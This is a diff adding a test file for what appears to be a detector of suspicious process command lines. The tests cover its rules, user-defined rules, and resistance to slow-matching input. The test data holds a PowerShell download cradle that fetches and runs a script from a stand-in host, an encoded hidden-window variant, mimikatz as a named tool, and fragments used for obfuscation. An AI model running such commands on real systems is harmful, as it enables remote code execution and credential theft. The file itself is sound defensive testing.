@@ -1,0 +1,78 @@
+import { describe, expect, test } from 'vitest';
+import { Behaviours, ruleFault } from '../../src/arguments/behaviours';
+import { type BehaviourRule, defaultRules } from '../../src/arguments/behaviour-rules';
+
+const behaviours = new Behaviours();
+const found = (text: string): readonly string[] => behaviours.rulesOf(behaviours.ofText(text)).map(({ id }) => id);
+const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
+
+describe.each(defaultRules)('$name', ({ id, hits, misses, attack }) => {
+  test.each(hits)('finds %s', (text) => expect(found(text)).toContain(id));
+  test.each(misses)('does not find %s', (text) => expect(found(text)).not.toContain(id));
+  test('names techniques and has examples of both kinds', () => {
+    expect(attack.length).toBeGreaterThan(0);
+    for (const technique of attack) expect(technique).toMatch(/^T\d{4}(?:\.\d{3})?$/);
+    expect(hits.length).toBeGreaterThan(0);
+    expect(misses.length).toBeGreaterThan(0);
+  });
+});
+
+describe('behaviours', () => {
+  const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://bad.example.com/a.ps1')";
+
+  test('are found in what is hidden, and hiding is one of them', () => {
+    expect(found(`-nop -w hidden -enc ${utf16(cradle)}`)).toEqual(expect.arrayContaining(['hidden', 'encoded', 'download-cradle', 'remote-script']));
+  });
+
+  test('of ordinary arguments are none', () => {
+    for (const text of ['', '-File C:\\Scripts\\backup.ps1 -Verbose', '/c echo hello', '-m pip install requests', '--type=renderer --lang=en']) expect(found(text)).toEqual([]);
+  });
+
+  test('are found in bytes among other bytes, whatever the case', () => {
+    const bytes = new TextEncoder().encode(`MIMIKATZ ${cradle.toUpperCase()} mimikatz`);
+    const candidates = behaviours.candidates(bytes, 9, bytes.length - 9);
+    expect(behaviours.rulesOf(behaviours.of(cradle.toUpperCase(), candidates)).map(({ id }) => id)).toEqual(['download-cradle', 'remote-script']);
+  });
+});
+
+describe('a rule of the user', () => {
+  const own: BehaviourRule = { id: 'own-1', name: 'Our tool', attack: [], words: ['ourtool'], pattern: String.raw`ourtool\s+--push\b`, hits: ['ourtool --push x'], misses: ['ourtool --pull x'] };
+
+  test('counts beside the others', () => {
+    const with1 = new Behaviours([own]);
+    expect(with1.rulesOf(with1.ofText('OURTOOL --push mimikatz')).map(({ id }) => id)).toEqual(['offensive-tool', 'own-1']);
+  });
+
+  test('can be used when its examples agree', () => expect(ruleFault(own)).toBeNull());
+
+  test.each(defaultRules)('and the default of $name pass the same check', (rule) => expect(ruleFault(rule)).toBeNull());
+
+  test.each<[string, Partial<BehaviourRule>, RegExp]>([
+    ['a pattern that cannot be read', { pattern: '(' }, /Our tool: the pattern cannot be read/],
+    ['a pattern that is not linear', { pattern: '(a)\\1' }, /cannot be read/],
+    ['no words', { words: [] }, /three characters or more/],
+    ['a short word', { words: ['ab'] }, /three characters or more/],
+    ['an example it misses', { hits: ['something else'] }, /does not find its own example “something else”/],
+    ['an example it must not find', { misses: ['ourtool --push y'] }, /finds “ourtool --push y”, which it must not/],
+    ['no name', { name: ' ' }, /needs a name/],
+  ])('with %s is refused in a sentence', (_, change, sentence) => expect(ruleFault({ ...own, ...change })).toMatch(sentence));
+});
+
+describe('on hostile input', () => {
+  // What makes a backtracking matcher of these patterns slow, and what makes many layers.
+  const attacks = ['iex ', 'curl ', '-w ', 'certutil ', 'socket.socket', 'schtasks /', '^a^', '`e', "'a'+", '"{0}"-f', '[char]1+', 'http://0x', '(104,', 'SQBFAFgA', "'//:ptth"];
+
+  test.each(attacks)('the time grows with the length of %s and no faster', { retry: 3 }, (piece) => {
+    const fastest = (length: number): number => {
+      const text = piece.repeat(Math.ceil(length / piece.length));
+      const times = [1, 2, 3].map(() => {
+        const start = performance.now();
+        behaviours.ofText(text);
+        return performance.now() - start;
+      });
+      return Math.min(...times);
+    };
+    // Four times the length; 50 ms of grace for what is too short to time.
+    expect(fastest(1024 * 1024)).toBeLessThan(6 * fastest(256 * 1024) + 50);
+  });
+});
